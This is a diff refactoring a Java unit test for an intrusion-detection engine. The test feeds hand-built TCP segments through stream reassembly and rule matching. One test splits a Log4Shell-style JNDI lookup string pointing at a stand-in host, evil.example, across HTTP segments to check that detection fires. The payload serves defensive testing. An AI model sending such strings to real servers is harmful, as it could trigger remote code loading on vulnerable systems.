@@ -2,61 +2,29 @@ package io.crowsnest.detection.engine;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
 
-import io.crowsnest.applayer.AppLayer;
 import io.crowsnest.decoders.Packet;
-import io.crowsnest.decoders.flow.Flow;
-import io.crowsnest.decoders.flow.FlowTable;
-import io.crowsnest.decoders.flow.FlowTableConfig;
-import io.crowsnest.decoders.stream.StreamConfig;
 import io.crowsnest.detection.TestSupport;
-import java.util.ArrayList;
 import java.util.List;
 import org.junit.jupiter.api.Test;
 
 /** Flow table → reassembly → app layer → detection, over hand-built TCP segments. */
 class StreamAndAppLayerDetectionTest {
-    final List<Long> alerts = new ArrayList<>();
-    long cseq = 1000, sseq = 7000;
-    TestSupport.Harness h;
-    FlowTable flows;
-    AppLayer app;
+    TcpConversation c;
 
     void setUp(String rules) {
-        h = TestSupport.harness(rules);
-        flows = new FlowTable(new FlowTableConfig(1024, 30, 300, 10, false, h.engine.flowbitCount(),
-                h.engine.flowintCount()), 0);
-        app = new AppLayer(StreamConfig.defaults());
+        c = new TcpConversation(TestSupport.harness(rules), 40000, 80);
     }
 
     Packet seg(boolean toServer, int flags, String payload) {
-        Packet p = toServer ? TestSupport.tcp("10.0.0.1", 40000, "10.0.0.2", 80, payload)
-                : TestSupport.tcp("10.0.0.2", 80, "10.0.0.1", 40000, payload);
-        p.tcpFlags = flags;
-        p.flowHash = 42;
-        p.tcpSeq = toServer ? cseq : sseq;
-        p.tcpAck = toServer ? sseq : cseq;
-        if (toServer) {
-            cseq += payload.length() + ((flags & 0x03) != 0 ? 1 : 0);
-        } else {
-            sseq += payload.length() + ((flags & 0x03) != 0 ? 1 : 0);
-        }
-        return p;
+        return c.seg(toServer, flags, payload);
     }
 
     List<Long> send(Packet p) {
-        int ff = flows.process(p);
-        Flow f = flows.current();
-        app.process(p, f, ff);
-        List<Long> out = new ArrayList<>();
-        h.ctx.inspect(p, f, ff, (pk, fl, s, x) -> out.add(s.sid()));
-        alerts.addAll(out);
-        return out;
+        return c.send(p);
     }
 
     void handshake() {
-        send(seg(true, 0x02, ""));
-        send(seg(false, 0x12, ""));
-        send(seg(true, 0x10, ""));
+        c.handshake();
     }
 
     @Test
@@ -66,7 +34,7 @@ class StreamAndAppLayerDetectionTest {
         assertEquals(List.of(), send(seg(true, 0x18, "GET / HTTP/1.1\r\nUser-Agent: ${jn")));
         assertEquals(List.of(1L), send(seg(true, 0x18, "di:ldap://evil.example/a}\r\n")));
         assertEquals(List.of(), send(seg(true, 0x18, "Host: x\r\n\r\n")));
-        assertEquals(1, alerts.stream().filter(s -> s == 1L).count());
+        assertEquals(1, c.alerts.stream().filter(s -> s == 1L).count());
     }
 
     @Test
@@ -110,6 +78,6 @@ class StreamAndAppLayerDetectionTest {
     }
 
     long count(long sid) {
-        return alerts.stream().filter(s -> s == sid).count();
+        return c.count(sid);
     }
 }
